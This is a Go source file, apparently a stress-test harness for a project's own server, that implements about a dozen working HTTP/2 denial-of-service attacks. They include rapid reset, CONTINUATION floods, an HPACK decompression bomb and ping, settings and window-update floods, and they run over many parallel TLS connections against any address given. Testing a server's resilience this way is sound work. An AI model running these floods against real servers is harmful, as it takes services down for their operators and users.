package hostile

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An HTTP2Attack is something to do with a connection that HTTP/2 allows, or does
// not, and that costs a server more than it costs the client.
type HTTP2Attack struct {
	Name        string
	Connections int  // that do it at a time
	Deaf        bool // the client reads nothing
	run         func(*connection) error
}

// HTTP2Attacks returns all attacks.
func HTTP2Attacks() []HTTP2Attack {
	return []HTTP2Attack{
		{"requests whose answers are not read", 600, false, func(c *connection) error {
			for range 20 {
				if err := c.request(true, hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 12_000)}); err != nil {
					return err
				}
			}
			return nil
		}},
		{"bodies after the refusal", 600, false, func(c *connection) error {
			if err := c.request(false, hpack.HeaderField{Name: "content-length", Value: "1000000000"}); err != nil {
				return err
			}
			for range 16 {
				if err := c.WriteData(c.stream, false, make([]byte, 16<<10)); err != nil {
					return err
				}
			}
			return nil
		}},
		{"bodies that do not arrive", 100, false, func(c *connection) error { return c.times(100, func() error { return c.request(false) }) }},
		{"1,000 streams", 10, false, func(c *connection) error { return c.times(1000, func() error { return c.request(false) }) }},
		{"rapid reset", 20, false, func(c *connection) error {
			return c.times(20_000, func() error {
				if err := c.request(true); err != nil {
					return err
				}
				return c.WriteRSTStream(c.stream, http2.ErrCodeCancel)
			})
		}},
		{"rapid reset, deaf", 20, true, func(c *connection) error {
			return c.times(20_000, func() error {
				if err := c.request(true); err != nil {
					return err
				}
				return c.WriteRSTStream(c.stream, http2.ErrCodeCancel)
			})
		}},
		{"a header that goes on and on", 100, false, func(c *connection) error {
			if err := c.headers(false, false, c.encode(c.fields()...)); err != nil {
				return err
			}
			field := c.encode(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 15_000), Sensitive: true})
			return c.times(5_000, func() error { return c.WriteContinuation(c.stream, false, field) })
		}},
		{"a header in empty frames", 100, false, func(c *connection) error {
			if err := c.headers(false, false, c.encode(c.fields()...)); err != nil {
				return err
			}
			return c.times(20_000, func() error { return c.WriteContinuation(c.stream, false, nil) })
		}},
		{"a header that unpacks to 16 MB", 50, false, func(c *connection) error {
			again := bytes.Repeat([]byte{0x80 | 62}, 4_000) // the field that was added to the table last
			return c.times(50, func() error {
				field := hpack.HeaderField{Name: "x", Value: strings.Repeat(string(rune('a'+c.sent%26)), 3_900)}
				return c.headers(true, true, append(c.encode(append(c.fields(), field)...), again...))
			})
		}},
		{"pings and settings, deaf", 50, true, func(c *connection) error {
			return c.times(100_000, func() error {
				if err := c.WritePing(false, [8]byte{}); err != nil {
					return err
				}
				return c.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 20})
			})
		}},
		{"empty pieces of a body", 50, false, func(c *connection) error {
			if err := c.request(false); err != nil {
				return err
			}
			return c.times(100_000, func() error { return c.WriteData(c.stream, false, nil) })
		}},
		{"priorities and windows", 50, false, func(c *connection) error {
			return c.times(50_000, func() error {
				if err := c.WritePriority(2*c.sent+1, http2.PriorityParam{StreamDep: 1}); err != nil {
					return err
				}
				return c.WriteWindowUpdate(0, 1)
			})
		}},
	}
}

// Run makes the attack on a server. The connections stay open until the function that
// it returns is called. It fails if none can be opened.
func (a HTTP2Attack) Run(ctx context.Context, address string) (closeAll func(), err error) {
	var (
		mu     sync.Mutex
		opened []net.Conn
		all    sync.WaitGroup
		left   = make(chan struct{}, a.Connections)
	)
	for range a.Connections {
		left <- struct{}{}
	}
	close(left)
	for range min(a.Connections, 50) {
		all.Go(func() {
			for range left {
				c, connectErr := dialHTTP2(ctx, address, a.Deaf)
				mu.Lock()
				if connectErr != nil {
					err = connectErr
				} else {
					opened = append(opened, c.conn)
				}
				mu.Unlock()
				if connectErr == nil && a.run(c) == nil {
					_ = c.out.Flush() // the server may have closed it, which is its right
				}
			}
		})
	}
	all.Wait()
	closeAll = func() {
		for _, c := range opened {
			_ = c.Close()
		}
	}
	if len(opened) > 0 {
		err = nil
	}
	return closeAll, err
}

// A connection is one of HTTP/2, whose client has no room for answers.
type connection struct {
	*http2.Framer
	conn   net.Conn
	out    *bufio.Writer
	packed bytes.Buffer
	packer *hpack.Encoder
	stream uint32 // the last one; they are odd
	sent   uint32 // by times
}

func dialHTTP2(ctx context.Context, address string, deaf bool) (*connection, error) {
	dialer := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}}
	conn, err := dialer.DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, fmt.Errorf("connect: %w", err)
	}
	_ = conn.SetWriteDeadline(time.Now().Add(time.Second)) // for a server that reads no more
	c := &connection{conn: conn, out: bufio.NewWriter(conn), stream: ^uint32(0)}
	c.Framer, c.packer = http2.NewFramer(c.out, nil), hpack.NewEncoder(&c.packed)
	c.AllowIllegalWrites = true
	if !deaf {
		go func() { _, _ = io.Copy(io.Discard, conn) }() // until it is closed
	}
	if _, err = io.WriteString(c.out, http2.ClientPreface); err == nil {
		err = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}
	return c, err
}

// times does something until it fails.
func (c *connection) times(n uint32, do func() error) error {
	for c.sent = range n {
		if err := do(); err != nil {
			return err
		}
	}
	return nil
}

// request begins a request with more fields.
func (c *connection) request(ends bool, more ...hpack.HeaderField) error {
	return c.headers(ends, true, c.encode(append(c.fields(), more...)...))
}

// fields are those of a request with a made-up key.
func (c *connection) fields() []hpack.HeaderField {
	return []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":path", Value: "/mcp"}, {Name: ":authority", Value: "localhost"},
		{Name: "x-outline-api-key", Value: Key(int(c.stream))},
	}
}

func (c *connection) headers(ends, complete bool, block []byte) error {
	c.stream += 2
	return c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, BlockFragment: block, EndStream: ends, EndHeaders: complete})
}

func (c *connection) encode(fields ...hpack.HeaderField) []byte {
	c.packed.Reset()
	for _, field := range fields {
		_ = c.packer.WriteField(field) // into memory
	}
	return bytes.Clone(c.packed.Bytes())
}
